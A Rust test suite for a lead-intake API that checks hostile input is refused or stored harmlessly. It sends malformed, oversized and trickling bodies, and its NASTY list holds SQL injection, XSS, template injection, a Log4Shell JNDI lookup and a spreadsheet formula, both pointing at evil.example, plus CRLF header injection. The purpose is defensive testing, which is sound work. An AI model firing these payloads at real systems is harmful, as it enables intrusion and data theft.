//! Bodies that nobody in his right mind sends.

use std::time::Duration;

use reqwest::Method;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::Instant;

use crate::harness::{TestApp, TestDatabase};

const FORM: &str = "application/x-www-form-urlencoded";
const JSON: &str = "application/json";

async fn start() -> TestApp {
    TestApp::start(TestDatabase::sqlite(), &[("INTAKE_SHORT_WAIT_MS", "0")]).await
}

#[tokio::test(flavor = "multi_thread")]
async fn malformed_bodies_are_refused_at_once_with_a_problem_and_nothing_is_stored() {
    let app = start().await;
    // The first phone waits for the table of all countries.
    app.submit(r#"{"phone": "1"}"#).await;
    let deep = format!("{}{}", "[".repeat(5_000), "]".repeat(5_000));
    let deep_field = format!(r#"{{"phone": "+79001234567", "custom_fields": {{"x": {deep}}}}}"#);
    let many_keys: String = (0..10_000).map(|number| format!("k{number}=&")).collect();
    let deep_key = format!("phone{}=1", "[a]".repeat(5_000));
    for (what, content_type, body, expected) in [
        ("nothing", JSON, "", 400),
        ("nothing", FORM, "", 422),
        ("half an escape", FORM, "phone=%2&email=%", 422),
        ("no UTF-8", FORM, "phone=%ff%fe&name=%c3%28", 422),
        ("depth", JSON, &deep, 400),
        ("depth", JSON, &deep_field, 400),
        ("many keys", FORM, &many_keys, 413),
        ("deep key", FORM, &deep_key, 422),
        ("large index", FORM, "tags[999999999]=x", 422),
        ("large number", JSON, r#"{"phone": 1e999}"#, 400),
        ("another type", "text/xml", "<lead/>", 415),
        ("another type", "application/json-patch+json", "[]", 415),
        ("no boundary", "multipart/form-data", "x", 400),
        ("lone surrogate", JSON, r#"{"phone": "\ud800"}"#, 400),
        ("a list", JSON, "[{}]", 400),
        ("null", JSON, "null", 400),
    ] {
        let asked = Instant::now();
        let headers = [("content-type", content_type)];
        let answer = app.send(Method::POST, "/api/leads", &headers, body).await;
        assert_eq!(answer.status, expected, "{what}: {}", answer.text);
        assert_eq!(
            answer.headers["content-type"], "application/problem+json",
            "{what}"
        );
        // 100 ms on a machine that does nothing else.
        assert!(
            asked.elapsed() < Duration::from_secs(10),
            "{what}: {:?}",
            asked.elapsed()
        );
    }
    let packed = [("content-type", JSON), ("content-encoding", "gzip")];
    assert_eq!(
        app.send(Method::POST, "/api/leads", &packed, "x")
            .await
            .status,
        415
    );
    assert_eq!(app.get("/api/leads").await.json()["leads"], json!([]));
}

/// Speaks HTTP by hand, and reads what comes back until the connection is closed.
async fn raw(app: &TestApp, head: &str, mut body: impl FnMut() -> Option<Vec<u8>>) -> String {
    let address = app.url.trim_start_matches("http://");
    let mut stream = TcpStream::connect(address).await.unwrap();
    let (mut reader, mut writer) = stream.split();
    let writing = async {
        if writer.write_all(head.as_bytes()).await.is_ok() {
            while let Some(piece) = body() {
                if writer.write_all(&piece).await.is_err() {
                    break;
                }
            }
        }
        std::future::pending::<()>().await;
    };
    let mut answer = Vec::new();
    let reading = reader.read_to_end(&mut answer);
    tokio::select! {
        _ = reading => {}
        () = writing => {}
        () = tokio::time::sleep(Duration::from_mins(1)) => panic!("the connection stays open"),
    }
    String::from_utf8_lossy(&answer).into_owned()
}

#[tokio::test(flavor = "multi_thread")]
async fn endless_and_oversized_bodies_are_cut_off() {
    let app = start().await;
    let head = "POST /api/leads HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n";
    // It says how much it will send: a look is enough.
    let declared = format!("{head}content-length: 1073741824\r\n\r\n");
    let answer = raw(&app, &declared, || None).await;
    assert!(answer.starts_with("HTTP/1.1 413"), "{answer}");
    // It does not say, and sends a gigabyte.
    let chunked = format!("{head}transfer-encoding: chunked\r\n\r\n");
    let mut sent = 0_usize;
    let answer = raw(&app, &chunked, || {
        sent += 1;
        let mut chunk = b"10000\r\n".to_vec();
        chunk.resize(chunk.len() + 65_536, b' ');
        chunk.extend_from_slice(b"\r\n");
        (sent < 16_384).then_some(chunk)
    })
    .await;
    assert!(
        answer.is_empty() || answer.starts_with("HTTP/1.1 413"),
        "{answer}"
    );
    assert!(sent < 2_000, "{sent} pieces of 64 KiB were taken");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_body_that_trickles_is_given_up() {
    let settings = [
        ("SERVER_REQUEST_TIMEOUT_MS", "1500"),
        ("INTAKE_SHORT_WAIT_MS", "0"),
    ];
    let app = TestApp::start(TestDatabase::sqlite(), &settings).await;
    let head = "POST /api/leads HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n{";
    let answer = raw(&app, head, || None).await;
    assert!(answer.starts_with("HTTP/1.1 503"), "{answer}");
}

const NASTY: [&str; 12] = [
    "'; DROP TABLE leads; --",
    "\" OR 1=1 --",
    "$1 $2 ?1 :name @x",
    "%' AND 1=(SELECT count(*) FROM tokens) --",
    "\\'; SELECT pg_sleep(10); --",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "{{ 7 * 7 }} {% raw %}",
    "${jndi:ldap://evil.example/a}",
    "\u{202e}\u{0}\u{feff}\r\nset-cookie: a=b",
    "=HYPERLINK(\"https://evil.example\")",
    "😈\u{10ffff}ﷺ",
];

#[tokio::test(flavor = "multi_thread")]
async fn whatever_a_field_holds_is_data_in_sqlite() {
    nasty_fields(TestDatabase::sqlite()).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn whatever_a_field_holds_is_data_in_postgres() {
    if let Some(database) = TestDatabase::postgres().await {
        nasty_fields(database).await;
    }
}

async fn nasty_fields(database: TestDatabase) {
    let app = TestApp::ready_on(database, &[("INTAKE_SHORT_WAIT_MS", "0")]).await;
    for (number, text) in NASTY.iter().enumerate() {
        let body = json!({
            "name": text, "phone": format!("+7903{number:07}"), "comment": text, "tags": [text],
            "utm_source": text, "utm_medium": text, "utm_campaign": text, "utm_content": text, "utm_term": text,
            "custom_fields": {*text: text}, *text: text,
        });
        let answer = app
            .submit_with_key(&body.to_string(), Some(&format!("nasty-{number}")))
            .await;
        assert_eq!(answer.status, 202, "{text:?}: {}", answer.text);
        assert!(!answer.headers.contains_key("set-cookie"));
        let lead = app.lead(answer.id()).await;
        let kept: String = text.chars().filter(|it| !it.is_control()).collect();
        let name: String = lead["name"]
            .as_str()
            .unwrap()
            .chars()
            .filter(|it| !it.is_control())
            .collect();
        let squeeze = |text: &str| text.split_whitespace().collect::<String>();
        assert_eq!(squeeze(&name), squeeze(&kept), "{text:?}");
        for path in [
            "/api/leads?status=",
            "/api/leads?state=",
            "/api/leads?after=",
            "/api/leads?limit=",
            "/api/leads/",
        ] {
            let encoded: String = text.bytes().map(|byte| format!("%{byte:02X}")).collect();
            let answer = app.get(&format!("{path}{encoded}")).await;
            assert!(
                [400, 404].contains(&answer.status.as_u16()),
                "{path}{text:?}: {}",
                answer.status
            );
        }
    }
    let leads = app.get("/api/leads").await.json();
    assert_eq!(leads["leads"].as_array().map(Vec::len), Some(NASTY.len()));
    app.queue_is_empty().await;
    assert_eq!(app.crm.deals().await.len(), NASTY.len());
    app.database.drop_schema().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_stranger_writes_runs_on_no_page() {
    let app = start().await;
    let browser = ("accept", "text/html");
    for text in NASTY {
        let encoded: String = text.bytes().map(|byte| format!("%{byte:02X}")).collect();
        let pages = [
            app.send(
                Method::POST,
                "/api/leads",
                &[("content-type", FORM), browser],
                &format!("name={encoded}&phone={encoded}&custom_fields[{encoded}]=a&custom_fields[{encoded}][]=b"),
            )
            .await,
            app.get(&format!("/api/auth/amo/callback?code=a&state={encoded}&referer={encoded}")).await,
            app.get(&format!("/api/auth/amo/callback?error={encoded}&state={encoded}")).await,
            app.get(&format!("/u/{encoded}")).await,
        ];
        for page in pages {
            assert!(
                page.headers["content-type"]
                    .to_str()
                    .unwrap()
                    .starts_with("text/html")
            );
            for markup in ["<script", "<img", "onerror=alert(1)>"] {
                assert!(!page.text.contains(markup), "{}", page.text);
            }
            let policy = page.headers["content-security-policy"].to_str().unwrap();
            assert!(
                policy.contains("default-src 'none'") && !policy.contains("unsafe-inline"),
                "{policy}"
            );
            assert_eq!(page.headers["x-content-type-options"], "nosniff");
            assert_eq!(page.headers["referrer-policy"], "no-referrer");
        }
    }
    assert_eq!(
        app.get("/api/leads").await.json()["leads"],
        Value::Array(Vec::new())
    );
}
